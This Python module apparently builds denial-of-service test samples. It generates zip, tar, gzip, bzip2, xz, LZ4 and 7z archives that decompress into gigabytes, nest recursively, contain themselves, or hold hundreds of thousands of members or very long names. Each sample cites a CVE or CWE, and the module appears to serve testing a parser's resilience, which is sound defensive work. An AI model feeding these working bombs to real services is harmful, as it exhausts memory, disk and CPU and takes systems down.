"""Archives and compressed streams that unpack to far more than they hold, or hold more members than anyone wants.

Written from David Fifield's "A better zip bomb" (WOOT 2019), 42.zip, Russ Cox's "Zip files all the way down" (2010),
CVE-2007-4559, CVE-2019-9674 and the specifications of zip, tar, gzip, bzip2, xz, LZ4 frames and 7z; CWE-409.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zlib
from collections.abc import Callable, Iterator

from samples.build.archives import number, tar_of, zip_of
from samples.denial import Load, file

_ZEROS = bytes(1 << 20)
_BOMB = "Fifield, WOOT 2019; CWE-409"


def _deflated(megabytes: int) -> bytes:
    """Return so many megabytes of zeros, deflated block by block."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(_ZEROS) + packer.flush(zlib.Z_FULL_FLUSH)
    return block * megabytes + b"\x03\0"


def _zip(names: list[bytes], body: bytes, size: int, method: int = 8, *, each: bool = False) -> bytes:
    """Return a zip whose members of these names are one body for all, or one for each."""
    local = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, method, 0, 33, 0, len(body), size, len(names[0]), 0)
    parts, directory, at = [], [], 0
    for index, name in enumerate(names):
        if each or index == 0:
            parts.append(local + name + body)
        offset = at if each else 0
        at += len(local) + len(name) + len(body)
        directory.append(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, 0, method, 0, 33, 0, len(body), size,
                                     len(name), 0, 0, 0, 0, 0, offset) + name)  # fmt: skip
    files, listed = b"".join(parts), b"".join(directory)
    count = min(len(names), 0xFFFF)
    end64 = struct.pack("<4sQHHIIQQQQ", b"PK\6\6", 44, 45, 45, 0, 0, len(names), len(names), len(listed), len(files))
    end64 += struct.pack("<4sIQI", b"PK\6\7", 0, len(files) + len(listed), 1)
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, count, count, len(listed), len(files), 0)
    return files + listed + (end64 if count == 0xFFFF else b"") + end


def _nested_zip(width: int, levels: int) -> bytes:
    inner = _zip([b"0000"], _deflated(1024), 1 << 30)
    for _ in range(levels):
        inner = zip_of({f"{index}.zip": inner for index in range(width)}, compress=True)
    return inner


def _zip_in_itself() -> bytes:
    """Return a zip whose stored members are the rest of the file, which ends with the same directory."""
    names = [b"%04d.zip" % index for index in range(64)]
    body = b"".join(struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 0, 0, 33, 0, 9000, 9000, 8, 0) + n for n in names)
    directory = b"".join(
        struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, 0, 0, 0, 33, 0, 64 * 92 + 22 - 38 * i,
            64 * 92 + 22 - 38 * i,
                    8, 0, 0, 0, 0, 0, 38 * i) + name for i, name in enumerate(names)
    )  # fmt: skip
    return body + directory + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 64, 64, len(directory), len(body), 0)


def _gzip(megabytes: int, content: bytes = b"") -> bytes:
    head = b"\x1f\x8b\x08\0\0\0\0\0\x02\xff"
    return (gzip.compress(content, mtime=0) if content else b"") + head + _deflated(megabytes) + bytes(8)


def _nested_gzip() -> bytes:
    data = _gzip(200)
    for _ in range(60):
        data = gzip.compress(data, mtime=0)
    return data


def _lz4() -> bytes:
    """Return LZ4 frames whose blocks are one byte, repeated 4 MB times."""
    block = b"\x1f\0\1\0" + b"\xff" * 16440 + b"\0" + b"\x50aaaaa"
    frame = b"\x04\x22\x4d\x18\x60\x70\x73" + (struct.pack("<I", len(block)) + block) * 1000 + bytes(4)
    return frame + b"\x04\x22\x4d\x18\x60\x70\x73" + bytes(4)


def _seven(body: bytes, size: int, coder: bytes) -> bytes:
    """Return a 7z of one member, packed by `coder` (its id and properties, with their length)."""
    header = (
        b"\x01\x04\x06" + number(0) + b"\x01\x09" + number(len(body)) + b"\x00"
        b"\x07\x0b\x01\x00\x01" + coder + b"\x0c" + number(size) + b"\x00\x00"
        b"\x05" + number(1) + b"\x11" + number(5) + b"\x00a\0\0\0" + b"\x00\x00"
    )  # fmt: skip
    return _sealed(body, header)


def _sealed(body: bytes, header: bytes) -> bytes:
    start = struct.pack("<QQI", len(body), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + body + header


def _seven_lzma() -> bytes:
    packed = lzma.compress(bytes(256 << 20), lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_LZMA2, "preset": 0}])
    return _seven(packed, 256 << 20, b"\x21\x21\x01\x10")


def _tar_members(count: int, content: bytes = b"") -> bytes:
    info = tarfile.TarInfo("m0000000")
    info.size = len(content)
    head = bytearray(info.tobuf(tarfile.USTAR_FORMAT))
    blank = sum(head) - sum(head[:8]) - sum(head[148:156]) + 8 * 32
    parts = []
    for index in range(count):
        name = b"m%07d" % index
        parts.append(name + head[8:148] + b"%06o\0 " % (blank + sum(name)) + head[156:])
        parts.append(content.ljust(-len(content) % 512 + len(content), b"\0"))
    return b"".join(parts) + bytes(1024)


def _tar_pax(**records: str) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as archive:
        link = tarfile.TarInfo("a")
        link.type, link.linkname = tarfile.SYMTYPE, "b"
        archive.addfile(link)
        info = tarfile.TarInfo("x")
        info.pax_headers = records
        archive.addfile(info)
    return out.getvalue()


def _tar_records() -> bytes:
    """Return a tar whose global header has as many records as fit, followed by members to which they apply."""
    body = b"".join(b"%d %s=\n" % (len(key) + 5, key) for key in (b"%07d" % n for n in range(70_000)))
    info = tarfile.TarInfo("g")
    info.type, info.size = tarfile.XGLTYPE, len(body)
    return info.tobuf(tarfile.USTAR_FORMAT) + body.ljust(-len(body) % 512 + len(body), b"\0") + _tar_members(20_000)


def _tar_links() -> bytes:
    """Return a tar of a link far down, and of members that lie as far down beside it."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for number in range(4000):
            info = tarfile.TarInfo("a/" * 2000 + str(number))
            info.type, info.linkname = (tarfile.SYMTYPE, "x") if number == 0 else (tarfile.REGTYPE, "")
            archive.addfile(info)
    return out.getvalue()


_MARKS = "a" + "\u0315\u0300" * 15_000
_FILES: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "zip-deflate": ("m.zip", lambda: _zip([b"0000"], _deflated(4000), 4000 << 20), _BOMB),
    "zip-overlapping": ("m.zip", lambda: _zip([b"%05d" % n for n in range(60_000)], _deflated(21), 21 << 20), _BOMB),
    "zip-nested": ("m.zip", lambda: _nested_zip(16, 5), "42.zip; CWE-409"),
    "zip-nested-wide": ("m.zip", lambda: _nested_zip(300, 2), "42.zip; CWE-409"),
    "zip-in-itself": ("m.zip", _zip_in_itself, "Cox 2010"),
    "zip-members": ("m.zip", lambda: _zip([b"%06d.json" % n for n in range(100_000)], b"{}", 2, 0, each=True),
                    "CVE-2019-9674"),
    "zip-empty-members": ("m.zip", lambda: _zip([b"%07d" % n for n in range(300_000)], b"", 0, 0, each=True),
                          "CVE-2019-9674"),
    "zip-pickles": ("m.zip", lambda: _zip([b"%06d.pkl" % n for n in range(100_000)], b"\x80\x04}.", 4, 0, each=True),
                    "CVE-2019-9674"),
    "zip-long-names": ("m.zip", lambda: _zip([b"%05d" % n + b"a/" * 30_000 for n in range(500)], b"", 0, 0),
                       "CWE-400"),
    "zip-marks-in-names": ("m.zip", lambda: _zip([(f"{n:05}" + _MARKS).encode() for n in range(300)], b"", 0, 0),
                           "Unicode TR15; CWE-407"),
    "tar-members": ("m.tar", lambda: _tar_members(100_000), "CWE-770"),
    "tar-pickles": ("m.tar", lambda: _tar_members(60_000, b"\x80\x04}."), "CWE-770"),
    "tar-global-records": ("m.tar", _tar_records, "POSIX pax; CWE-407"),
    "tar-links": ("m.tar", _tar_links, "CWE-407"),
    "tar-long-path": ("m.tar", lambda: _tar_pax(path="b/" * 400_000), "CWE-407"),
    "tar-long-link": ("m.tar", lambda: _tar_pax(linkpath="../a/" * 150_000), "CWE-407"),
    "tar-marks-in-name": ("m.tar", lambda: _tar_pax(path="a" + "\u0315\u0300" * 150_000), "Unicode TR15; CWE-407"),
    "tar-huge-size": ("m.tar", lambda: _tar_pax(size="9" * 900_000), "CVE-2020-10735; CVE-2019-20907"),
    "tar-gz": ("m.tar.gz", lambda: _gzip(8000, tar_of({"a": b""})), "CWE-409"),
    "gzip": ("m.pkl.gz", lambda: _gzip(8000), "CWE-409"),
    "gzip-members": ("m.gz", lambda: gzip.compress(b"", mtime=0) * 400_000, "RFC 1952; CWE-770"),
    "gzip-nested": ("m.gz", _nested_gzip, "CWE-409"),
    "gzip-long-name": ("m.gz", lambda: b"\x1f\x8b\x08\x08\0\0\0\0\0\xff" + b"a" * (30 << 20), "RFC 1952"),
    "bzip2": ("m.pkl.bz2", lambda: bz2.compress(bytes(20 << 20)) * 500, "CWE-409"),
    "bzip2-members": ("m.bz2", lambda: bz2.compress(b"") * 1_000_000, "CWE-770"),
    "xz": ("m.pkl.xz", lambda: lzma.compress(bytes(64 << 20), preset=0) * 100, "CWE-409"),
    "xz-members": ("m.xz", lambda: lzma.compress(b"") * 300_000, "CWE-770"),
    "xz-dictionary": ("m.lzma", lambda: b"\x5d\xff\xff\xff\xff" + b"\xff" * 8 + bytes(4000), "CWE-789"),
    "zlib": ("m.joblib", lambda: b"\x78\xda" + _deflated(8000) + bytes(4), "CWE-409"),
    "lz4": ("m.pkl.lz4", _lz4, "CWE-409"),
    "7z-zeros": ("m.7z", _seven_lzma, "CWE-409"),
    "7z-size": ("m.7z", lambda: _seven(bytes(500), 1 << 60, b"\x01\x00"), "CWE-789"),
    "7z-counts": ("m.7z", lambda: _sealed(b"", b"\x01\x05" + number(1 << 40) + b"\x11\x05\0a\0\0\0"), "CWE-789"),
    "7z-streams": ("m.7z", lambda: _sealed(b"", b"\x01\x04\x06\x00" + number(1 << 33) + b"\x09" + b"\1" * 9_000_000),
                   "CWE-789"),
}  # fmt: skip


def loads() -> Iterator[Load]:
    """Yield each archive."""
    for name, (path, content, source) in _FILES.items():
        yield file(name, path, content, source)
